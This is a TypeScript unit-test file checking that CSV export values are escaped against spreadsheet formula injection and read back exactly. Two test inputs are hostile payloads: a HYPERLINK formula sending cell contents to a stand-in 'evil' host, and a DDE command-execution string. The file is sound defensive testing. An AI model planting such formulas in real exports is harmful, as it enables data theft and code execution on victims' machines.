import { describe, expect, it } from 'vitest';
import { escapeFormula, unescapeFormula } from './formulas.ts';

describe('formula escaping of CSV exports', () => {
  it('writes a leading apostrophe before what a spreadsheet would evaluate, and nothing else', () => {
    expect(escapeFormula('=HYPERLINK("http://evil/?"&A1,"x")')).toBe('\'=HYPERLINK("http://evil/?"&A1,"x")');
    expect(escapeFormula("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(escapeFormula('-2+3')).toBe("'-2+3");
    expect(escapeFormula('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(escapeFormula('\t=1')).toBe("'\t=1");
    expect(escapeFormula('\r=1')).toBe("'\r=1");
    for (const plain of ['Zoë Müller', 'a=b', '', "O'Brien", "'quoted'", '1+1']) expect(escapeFormula(plain)).toBe(plain);
  });

  it('reads back exactly what was written, for every value, apostrophes included', () => {
    for (const value of ['=1', "'=1", "''=1", "'", "''", "'abc", 'abc', '-', "'-", '@', '', "O'Brien"]) {
      expect(unescapeFormula(escapeFormula(value))).toBe(value);
    }
    // A file's own apostrophes before text that needs no escape are data.
    expect(unescapeFormula("'abc")).toBe("'abc");
  });
});
